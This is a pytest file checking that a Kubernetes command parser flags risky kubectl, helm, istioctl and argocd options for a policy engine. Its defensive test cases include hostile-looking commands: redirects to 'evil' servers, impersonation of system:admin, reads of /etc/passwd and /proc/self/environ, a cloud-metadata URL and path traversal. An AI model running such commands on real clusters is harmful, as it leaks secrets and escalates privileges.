"""Guarded flags are recorded (canonical names) for the policy engine, never refused by the parser."""

from __future__ import annotations

import pytest

from k8s_mcp_server.parse import parse_command
from k8s_mcp_server.parse.vocabulary import GUARDED_FLAGS

CASES = [
    ("kubectl", "get pods --kubeconfig=/etc/k", "kubeconfig"),
    ("kubectl", "--kubeconfig /etc/k get pods", "kubeconfig"),
    ("kubectl", "get pods --context prod", "context"),
    ("kubectl", "get pods --cluster prod", "cluster"),
    ("kubectl", "get pods --user admin", "user"),
    ("kubectl", "get pods -s https://evil", "server"),
    ("kubectl", "get pods --server=https://evil", "server"),
    ("kubectl", "get pods --token abc", "token"),
    ("kubectl", "get pods --as system:admin", "as"),
    ("kubectl", "get pods --as-group system:masters", "as-group"),
    ("kubectl", "get pods --as-uid 0", "as-uid"),
    ("kubectl", "get pods --certificate-authority /etc/ca", "certificate-authority"),
    ("kubectl", "get pods --client-key /k", "client-key"),
    ("kubectl", "get pods --client-certificate /c", "client-certificate"),
    ("kubectl", "get pods --insecure-skip-tls-verify", "insecure-skip-tls-verify"),
    ("kubectl", "get --raw /api/v1/namespaces/default/secrets", "raw"),
    ("kubectl", "config view --raw", "raw"),
    ("kubectl", "apply -f app.yaml", "filename"),
    ("kubectl", "apply --filename=https://evil/app.yaml", "filename"),
    ("kubectl", "get -f app.yaml", "filename"),
    ("kubectl", "apply -k dir", "kustomize"),
    ("kubectl", "create secret generic s --from-file=/etc/passwd", "from-file"),
    ("kubectl", "create cm c --from-env-file=/proc/self/environ", "from-env-file"),
    ("kubectl", "get pods --cache-dir /tmp", "cache-dir"),
    ("kubectl", "get pods -v=9", "v"),
    ("kubectl", "get pods -v9", "v"),
    ("kubectl", "get pods --v 6", "v"),
    ("kubectl", "get pods -o go-template-file=/etc/passwd", "output"),
    ("kubectl", "get pods -o jsonpath-file=/etc/passwd", "output"),
    ("kubectl", "kustomize https://github.com/x/y", "kustomize"),
    ("kubectl", "cp web:/etc/passwd ./passwd", "filename"),
    ("kubectl", "patch deploy web --patch-file /etc/p", "patch-file"),
    ("kubectl", "proxy -w /", "www"),
    ("helm", "install web ./chart --post-renderer ./x", "post-renderer"),
    ("helm", "install web bitnami/nginx --repo https://evil", "repo"),
    ("helm", "list --kube-token abc", "kube-token"),
    ("helm", "list --kube-apiserver https://evil", "kube-apiserver"),
    ("helm", "list --kube-as-user admin", "kube-as-user"),
    ("helm", "list --kubeconfig /etc/k", "kubeconfig"),
    ("helm", "list --registry-config /x", "registry-config"),
    ("helm", "list --repository-config /x", "repository-config"),
    ("helm", "list --repository-cache /x", "repository-cache"),
    ("helm", "install web bitnami/nginx -f /etc/values.yaml", "values"),
    ("helm", "install web bitnami/nginx --values=v.yaml", "values"),
    ("helm", "install web bitnami/nginx --set-file a=/etc/passwd", "set-file"),
    ("helm", "template web /etc/chart", "chart-path"),
    ("helm", "install web oci://ghcr.io/x/chart", "chart-url"),
    ("helm", "upgrade web https://example.com/chart-1.0.tgz", "chart-url"),
    ("helm", "show chart http://169.254.169.254/latest", "chart-url"),
    ("helm", "show chart home/../../etc", "chart-path"),
    ("helm", "show chart -- home/../../etc", "chart-path"),
    ("helm", "show chart repo/../etc", "chart-path"),
    ("helm", "show chart a/b/c", "chart-path"),
    ("helm", "create /tmp/x", "chart-path"),
    ("helm", "repo add r https://charts.example.com", "repo-url"),
    ("helm", "search hub x --endpoint http://10.0.0.1", "endpoint"),
    ("helm", "template ./chart", "chart-path"),
    ("helm", "install web chart", "chart-path"),
    ("helm", "upgrade web mychart -n dev", "chart-path"),
    ("helm", "show values mychart", "chart-path"),
    ("helm", "install mychart --generate-name", "chart-path"),
    ("helm", "template web bitnami/nginx --output-dir /tmp/x", "output-dir"),
    ("istioctl", "install -f /etc/op.yaml", "filename"),
    ("istioctl", "analyze /etc/x.yaml", "filename"),
    ("istioctl", "ps --kubeconfig /etc/k", "kubeconfig"),
    ("istioctl", "ps -c /etc/k", "kubeconfig"),
    ("argocd", "app list --server evil:443", "server"),
    ("argocd", "app list --auth-token abc", "auth-token"),
    ("argocd", "app list --config /etc/x", "config"),
    ("argocd", "app list --header 'X: y'", "header"),
    ("argocd", "app list -H 'X: y'", "header"),
    ("argocd", "app list --plaintext", "plaintext"),
    ("argocd", "app list --insecure", "insecure"),
    ("argocd", "login evil.example.com", "server"),
]


@pytest.mark.parametrize(("tool", "command", "flag"), CASES)
def test_guarded_flag_is_recorded_not_refused(tool: str, command: str, flag: str) -> None:
    parsed = parse_command(tool, command)
    assert flag in parsed.guarded_flags
    assert flag in GUARDED_FLAGS[tool]


@pytest.mark.parametrize(
    ("tool", "command"),
    [
        ("kubectl", "get pods -v=4"),
        ("kubectl", "get pods -o yaml"),
        ("kubectl", "logs -f web"),
        ("kubectl", "debug web --profile=general --image=busybox"),
        ("helm", "install web bitnami/nginx --set a=b"),
        ("helm", "list -f web"),
        ("helm", "template web bitnami/nginx"),
    ],
)
def test_ordinary_flags_are_not_guarded(tool: str, command: str) -> None:
    assert parse_command(tool, command).guarded_flags == ()
